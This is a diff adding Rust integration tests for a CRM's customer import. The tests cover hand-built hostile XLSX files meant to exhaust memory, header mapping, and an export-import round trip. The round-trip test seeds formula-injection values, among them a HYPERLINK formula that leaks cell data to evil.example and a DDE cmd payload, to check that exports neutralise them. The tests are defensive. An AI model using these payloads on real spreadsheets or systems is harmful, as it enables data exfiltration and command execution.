@@ -2,7 +2,10 @@
 //! recognition, the per-row report, duplicate policies, "all or nothing",
 //! owners, rights, broken files, and other companies' ids.
 
-use std::time::Duration;
+use std::io::Write;
+use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
+use std::sync::{Arc, OnceLock};
+use std::time::{Duration, Instant};
 
 use guanxi_tests::{Backend, Company, Gql, Session, TestServer, backend_tests, company};
 use serde_json::{Value, json};
@@ -529,7 +532,389 @@ async fn batches_write_side_by_side_in_order(b: Backend) {
     assert_eq!(r.code(), "NOT_FOUND");
 }
 
+/// A workbook written by hand, as a hostile file would be: `shared` writes
+/// the shared strings and `rows` the rows of its one sheet, in pieces, so
+/// the test never holds what the file unpacks to.
+fn hand_workbook(shared: &mut dyn FnMut(&mut dyn Write), rows: &mut dyn FnMut(&mut dyn Write)) -> Vec<u8> {
+    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    let opts = zip::write::SimpleFileOptions::default()
+        .compression_method(zip::CompressionMethod::Deflated)
+        .compression_level(Some(1));
+    zip.start_file("xl/workbook.xml", opts).unwrap();
+    zip.write_all(br#"<workbook xmlns:r="r"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>"#)
+        .unwrap();
+    zip.start_file("xl/_rels/workbook.xml.rels", opts).unwrap();
+    zip.write_all(
+        br#"<Relationships><Relationship Id="rId1" Type="w" Target="worksheets/sheet1.xml"/></Relationships>"#,
+    )
+    .unwrap();
+    zip.start_file("xl/sharedStrings.xml", opts).unwrap();
+    zip.write_all(b"<sst>").unwrap();
+    shared(&mut zip);
+    zip.write_all(b"</sst>").unwrap();
+    zip.start_file("xl/worksheets/sheet1.xml", opts).unwrap();
+    zip.write_all(b"<worksheet><sheetData>").unwrap();
+    rows(&mut zip);
+    zip.write_all(b"</sheetData></worksheet>").unwrap();
+    zip.finish().unwrap().into_inner()
+}
+
+/// A header row of one inline string, 姓名.
+const HEADER_ROW: &[u8] = r#"<row r="1"><c r="A1" t="inlineStr"><is><t>姓名</t></is></c></row>"#.as_bytes();
+
+/// Hostile workbooks, each with the reason it is refused; built once.
+fn hostile_workbooks() -> &'static [(&'static str, Vec<u8>, &'static str)] {
+    static FILES: OnceLock<Vec<(&'static str, Vec<u8>, &'static str)>> = OnceLock::new();
+    FILES.get_or_init(|| {
+        // One cell at A1 and one at XFD1048576: a grid of 17 billion cells.
+        let far = hand_workbook(&mut |_| {}, &mut |w| {
+            w.write_all(HEADER_ROW).unwrap();
+            w.write_all(br#"<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>"#).unwrap();
+        });
+        assert!(far.len() < 1500, "{}", far.len());
+        // One cell of 256 MiB.
+        let chunk = "A".repeat(1 << 20);
+        let cell = hand_workbook(&mut |_| {}, &mut |w| {
+            w.write_all(HEADER_ROW).unwrap();
+            w.write_all(br#"<row r="2"><c r="A2" t="inlineStr"><is><t>"#).unwrap();
+            for _ in 0..256 {
+                w.write_all(chunk.as_bytes()).unwrap();
+            }
+            w.write_all(b"</t></is></c></row>").unwrap();
+        });
+        // A million rows.
+        let rows = hand_workbook(&mut |w| w.write_all(b"<si><t>x</t></si>").unwrap(), &mut |w| {
+            w.write_all(HEADER_ROW).unwrap();
+            for r in 2..1_000_000 {
+                write!(w, r#"<row r="{r}"><c r="A{r}" t="s"><v>0</v></c></row>"#).unwrap();
+            }
+        });
+        // One long shared string in every cell of 4,000 rows.
+        let long = "长".repeat(32_767);
+        let shared = hand_workbook(&mut |w| write!(w, "<si><t>{long}</t></si>").unwrap(), &mut |w| {
+            w.write_all(HEADER_ROW).unwrap();
+            for r in 2..4000 {
+                write!(w, r#"<row r="{r}"><c r="A{r}" t="s"><v>0</v></c><c r="B{r}" t="s"><v>0</v></c></row>"#)
+                    .unwrap();
+            }
+        });
+        vec![
+            ("far.xlsx", far, "too_many_columns"),
+            ("cell.xlsx", cell, "cell_too_long"),
+            ("rows.xlsx", rows, "too_many_rows"),
+            ("shared.xlsx", shared, "too_large"),
+        ]
+    })
+}
+
+async fn preview(s: &TestServer, who: &Session, name: &str, bytes: Vec<u8>) -> Gql {
+    s.gql_upload(
+        Some(&who.token),
+        "mutation($file: Upload!) { previewCustomerImport(file: $file) { rows columns { header field } warnings { column code message } } }",
+        json!({ "file": null }),
+        vec![("variables.file", name, bytes)],
+    )
+    .await
+}
+
+/// The process's resident memory, in bytes.
+fn resident() -> u64 {
+    let statm = std::fs::read_to_string("/proc/self/statm").unwrap();
+    statm.split_whitespace().nth(1).unwrap().parse::<u64>().unwrap() * 4096
+}
+
+/// Hostile workbooks sent by a salesperson, to the preview and to the
+/// import: each is refused on `file`, naming the limit, promptly and
+/// without the memory it would unpack to; nothing is queued and the
+/// server goes on answering.
+async fn hostile_workbooks_are_refused_while_streaming(b: Backend) {
+    let Company { s, admin, sp1, .. } = company(b).await;
+    let files = hostile_workbooks();
+    for (name, bytes, reason) in files {
+        let before = resident();
+        let peak = Arc::new(AtomicU64::new(before));
+        let done = Arc::new(AtomicBool::new(false));
+        let sampler = {
+            let (peak, done) = (peak.clone(), done.clone());
+            std::thread::spawn(move || {
+                while !done.load(Ordering::SeqCst) {
+                    peak.fetch_max(resident(), Ordering::SeqCst);
+                    std::thread::sleep(Duration::from_millis(2));
+                }
+            })
+        };
+        let started = Instant::now();
+        let r = preview(&s, &sp1, name, bytes.clone()).await;
+        let took = started.elapsed();
+        let i = start(&s, &sp1, name, bytes.clone(), json!(null)).await;
+        done.store(true, Ordering::SeqCst);
+        sampler.join().unwrap();
+        for r in [&r, &i] {
+            assert_eq!(r.code(), "VALIDATION_FAILED", "{name}: {:?}", r.error());
+            assert_eq!(r.fields(), ["file"], "{name}");
+            assert_eq!(r.error()["extensions"]["fields"][0]["reason"], *reason, "{name}");
+        }
+        assert!(took < Duration::from_secs(30), "{name} took {took:?}");
+        let grew = peak.load(Ordering::SeqCst).saturating_sub(before);
+        assert!(grew < 200 << 20, "{name}: memory grew by {} MiB", grew >> 20);
+    }
+    let r = s.gql(Some(&sp1.token), "{ me { user { id } } }", json!({})).await;
+    assert_eq!(r.ok()["me"]["user"]["id"], sp1.user_id.as_str());
+    let r = s.gql(Some(&admin.token), "{ customerImports { id } jobs { id } }", json!({})).await;
+    assert_eq!(r.ok()["customerImports"], json!([]));
+    assert_eq!(total(&s, &admin).await, 0);
+}
+
+/// While a large workbook is being read, another company's requests are
+/// answered at once: reading holds no database connection (SQLite has
+/// only one).
+async fn reading_a_workbook_holds_no_connection(b: Backend) {
+    let Company { s, sp1, .. } = company(b).await;
+    let other = s.sign_up("other").await;
+    s.gql(Some(&other.token), "mutation { createCustomer(input: { name: \"别家\" }) { id } }", json!({})).await.ok();
+    let rows = hostile_workbooks().iter().find(|f| f.0 == "rows.xlsx").unwrap().1.clone();
+    let s = Arc::new(s);
+    let reading = {
+        let (s, sp1) = (s.clone(), sp1.clone());
+        tokio::spawn(async move { preview(&s, &sp1, "rows.xlsx", rows).await })
+    };
+    tokio::time::sleep(Duration::from_millis(100)).await;
+    let mut answered_meanwhile = 0;
+    while !reading.is_finished() {
+        let started = Instant::now();
+        let r = s.gql(Some(&other.token), "{ customers { totalCount } }", json!({})).await;
+        assert_eq!(r.ok()["customers"]["totalCount"], 1);
+        assert!(started.elapsed() < Duration::from_secs(1), "another company waited {:?}", started.elapsed());
+        if !reading.is_finished() {
+            answered_meanwhile += 1;
+        }
+    }
+    assert_eq!(reading.await.unwrap().code(), "VALIDATION_FAILED");
+    assert!(answered_meanwhile > 0, "the workbook was read before anyone asked");
+}
+
+/// The requirement documents' own names for customer fields (客户名称,
+/// 所属公司 …) and the product's own export headers fill their fields;
+/// every column that fills nothing is named, in the preview and in the
+/// import's report, never dropped in silence.
+async fn requirement_document_headers_fill_their_fields(b: Backend) {
+    let Company { s, sp1, .. } = company(b).await;
+    let csv = "客户名称,所属公司,所属职务,行业类型,客户性别,最后联系日期,所属业务员,微信,备注,创建时间,公司,\n\
+               张三,上海关系贸易,采购经理,制造业,男,2024-03-05,sp1@acme.cn,zs123,老客户,2024-01-01 09:00,重复,\n\
+               李四,,,,,,,,,,,多出来的\n"
+        .as_bytes()
+        .to_vec();
+    let r = preview(&s, &sp1, "docs.csv", csv.clone()).await;
+    let p = &r.ok()["previewCustomerImport"];
+    let fields: Vec<Value> = p["columns"].as_array().unwrap().iter().map(|c| c["field"].clone()).collect();
+    assert_eq!(
+        fields,
+        [
+            json!("name"),
+            json!("company"),
+            json!("title"),
+            json!("industry"),
+            json!("gender"),
+            json!("last_contact"),
+            json!("owner_email"),
+            Value::Null,
+            Value::Null,
+            Value::Null,
+            Value::Null,
+        ]
+    );
+    let warnings: Vec<(&str, &str)> = p["warnings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|w| (w["column"].as_str().unwrap(), w["code"].as_str().unwrap()))
+        .collect();
+    assert_eq!(
+        warnings,
+        [
+            ("微信", "unmapped"),
+            ("备注", "not_importable"),
+            ("创建时间", "not_importable"),
+            ("公司", "duplicate_column"),
+            ("column 12", "no_header"),
+        ]
+    );
+
+    let imp = run(&s, &sp1, "docs.csv", csv, json!(null)).await;
+    assert_eq!(
+        (imp["status"].as_str(), imp["created"].as_i64(), imp["failed"].as_i64()),
+        (Some("DONE"), Some(2), Some(0))
+    );
+    let report: Vec<(i64, &str, &str, &str)> = imp["issues"]["items"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|i| {
+            (
+                i["row"].as_i64().unwrap(),
+                i["column"].as_str().unwrap(),
+                i["code"].as_str().unwrap(),
+                i["severity"].as_str().unwrap(),
+            )
+        })
+        .collect();
+    assert_eq!(
+        report,
+        [
+            (1, "微信", "unmapped", "WARNING"),
+            (1, "备注", "not_importable", "WARNING"),
+            (1, "创建时间", "not_importable", "WARNING"),
+            (1, "公司", "duplicate_column", "WARNING"),
+            (1, "column 12", "no_header", "WARNING"),
+        ]
+    );
+    let r = s
+        .gql(
+            Some(&sp1.token),
+            "{ customers(filter: { search: \"张三\" }) { edges { node { company title industry gender lastContactAt owner { id } } } } }",
+            json!({}),
+        )
+        .await;
+    let c = &r.ok()["customers"]["edges"][0]["node"];
+    assert_eq!(
+        (c["company"].as_str(), c["title"].as_str(), c["industry"].as_str(), c["gender"].as_str()),
+        (Some("上海关系贸易"), Some("采购经理"), Some("制造业"), Some("MALE"))
+    );
+    // The day's start in the company's time zone (Asia/Shanghai).
+    let at = chrono::DateTime::parse_from_rfc3339(c["lastContactAt"].as_str().unwrap()).unwrap();
+    assert_eq!(at.to_utc().to_rfc3339(), "2024-03-04T16:00:00+00:00");
+    assert_eq!(c["owner"]["id"], sp1.user_id.as_str());
+}
+
+const EVERY_FIELD: &str = "number name company title phones email address gender birthday status industry source grade \
+                           tags owner { id } lastContactAt nextVisitAt custom";
+
+/// Every customer the admin sees, every field, in number order.
+async fn every_customer(s: &TestServer, admin: &Session) -> Vec<Value> {
+    let r = s
+        .gql(
+            Some(&admin.token),
+            &format!("{{ customers(first: 100, sort: {{ field: NUMBER, direction: ASC }}) {{ edges {{ node {{ id {EVERY_FIELD} }} }} }} }}"),
+            json!({}),
+        )
+        .await;
+    r.ok()["customers"]["edges"].as_array().unwrap().iter().map(|e| e["node"].clone()).collect()
+}
+
+/// An export of every customer field, built-in and custom (one of each
+/// type), imported again after the customers are deleted, gives back the
+/// same customers, in CSV (whose formula-like values are neutralised) and
+/// in XLSX.
+async fn an_export_imports_back_to_the_same_customers(b: Backend) {
+    let Company { s, admin, sp1, .. } = company(b).await;
+    let define = "mutation($i: CustomFieldInput!) { createCustomField(entity: CUSTOMER, input: $i) { id } }";
+    let options = json!({ "options": [{ "key": "a", "label": "重要" }, { "key": "b", "label": "一般" }, { "key": "c", "label": "其他" }] });
+    for (key, label, kind, rules) in [
+        ("t", "文本", "TEXT", Value::Null),
+        ("lt", "多行", "LONG_TEXT", Value::Null),
+        ("n", "整数", "NUMBER", Value::Null),
+        ("d", "小数", "DECIMAL", Value::Null),
+        ("m", "金额", "MONEY", Value::Null),
+        ("day", "日期", "DATE", Value::Null),
+        ("at", "时刻", "DATE_TIME", Value::Null),
+        ("yes", "是否", "BOOLEAN", Value::Null),
+        ("one", "单选", "SINGLE_SELECT", options.clone()),
+        ("many", "多选", "MULTI_SELECT", options.clone()),
+        ("tel", "座机", "PHONE", Value::Null),
+        ("mail", "备用邮箱", "EMAIL", Value::Null),
+        ("web", "网址", "URL", Value::Null),
+        ("who", "对接人", "USER", Value::Null),
+        ("stars", "评分", "RATING", Value::Null),
+    ] {
+        let r = s
+            .gql(
+                Some(&admin.token),
+                define,
+                json!({ "i": { "key": key, "label": label, "type": kind, "rules": rules } }),
+            )
+            .await;
+        r.ok();
+    }
+    let create = "mutation($i: CreateCustomerInput!) { createCustomer(input: $i) { id } }";
+    let full = json!({
+        "name": "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+        "company": "+cmd|' /C calc'!A0",
+        "title": "-5",
+        "phones": ["+86 138 1234 5678", "021-12345678"],
+        "email": "zw@example.cn",
+        "address": "@上海市 '=路",
+        "gender": "FEMALE",
+        "birthday": "1985-03-02",
+        "status": "INTENT",
+        "industry": "制造业",
+        "source": "朋友介绍",
+        "grade": "VIP",
+        "tags": ["重点", "展会"],
+        "ownerId": sp1.user_id,
+        "lastContactAt": "2026-03-05T06:30:00Z",
+        "nextVisitAt": "2026-12-24T02:15:00Z",
+        "custom": {
+            "t": "-3 度", "lt": "第一行\n第二行, 带逗号", "n": -42, "d": "9.50", "m": { "amount": "12.50", "currency": "CNY" },
+            "day": "2024-02-29", "at": "2026-01-02T03:04:00.000Z", "yes": true, "one": "b", "many": ["a", "c"],
+            "tel": "010-88886666", "mail": "x@example.cn", "web": "https://example.cn/a?b=1", "who": sp1.user_id,
+            "stars": 4
+        }
+    });
+    s.gql(Some(&admin.token), create, json!({ "i": full })).await.ok();
+    s.gql(Some(&admin.token), create, json!({ "i": { "name": "空白", "ownerId": admin.user_id } })).await.ok();
+    let before = every_customer(&s, &admin).await;
+    assert_eq!(before.len(), 2);
+    let strip = |list: &[Value]| -> Vec<Value> {
+        list.iter()
+            .map(|c| {
+                let mut c = c.clone();
+                c.as_object_mut().unwrap().remove("id");
+                c
+            })
+            .collect()
+    };
+
+    for format in ["CSV", "XLSX"] {
+        let r = s
+            .gql(
+                Some(&admin.token),
+                "mutation($f: ExportFormat!) { exportCustomers(format: $f) { url } }",
+                json!({ "f": format }),
+            )
+            .await;
+        let url = r.ok()["exportCustomers"]["url"].as_str().unwrap().to_owned();
+        let file = s.http.get(format!("{}{url}", s.base)).send().await.unwrap().bytes().await.unwrap().to_vec();
+        for c in every_customer(&s, &admin).await {
+            let r = s
+                .gql(
+                    Some(&admin.token),
+                    "mutation($id: ID!) { deleteCustomerPermanently(id: $id, confirm: true) { id } }",
+                    json!({ "id": c["id"] }),
+                )
+                .await;
+            r.ok();
+        }
+        let name = format!("客户.{}", format.to_lowercase());
+        let p = preview(&s, &admin, &name, file.clone()).await;
+        let warnings: Vec<&str> = p.ok()["previewCustomerImport"]["warnings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|w| w["column"].as_str().unwrap())
+            .collect();
+        // Only what the product sets itself is left out.
+        assert_eq!(warnings, ["创建时间", "更新时间"], "{format}");
+        let imp = run(&s, &admin, &name, file, json!(null)).await;
+        assert_eq!((imp["created"].as_i64(), imp["failed"].as_i64()), (Some(2), Some(0)), "{format}: {imp}");
+        assert_eq!(strip(&every_customer(&s, &admin).await), strip(&before), "{format}");
+    }
+}
+
 backend_tests!(
+    hostile_workbooks_are_refused_while_streaming,
+    reading_a_workbook_holds_no_connection,
+    requirement_document_headers_fill_their_fields,
+    an_export_imports_back_to_the_same_customers,
     large_files_are_accepted,
     batches_write_side_by_side_in_order,
     custom_field_columns,
